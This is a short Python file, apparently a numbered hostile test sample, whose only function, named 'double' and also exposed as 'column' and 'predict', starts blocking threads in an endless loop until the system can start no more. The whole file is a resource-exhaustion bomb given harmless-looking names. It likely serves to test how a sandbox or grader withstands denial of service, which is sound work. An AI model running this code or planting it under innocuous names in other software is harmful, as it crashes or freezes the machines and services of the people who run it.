"""50. Starts threads until it may start no more."""

import threading


def double(x):
    while True:
        threading.Thread(target=threading.Event().wait).start()


column = predict = double
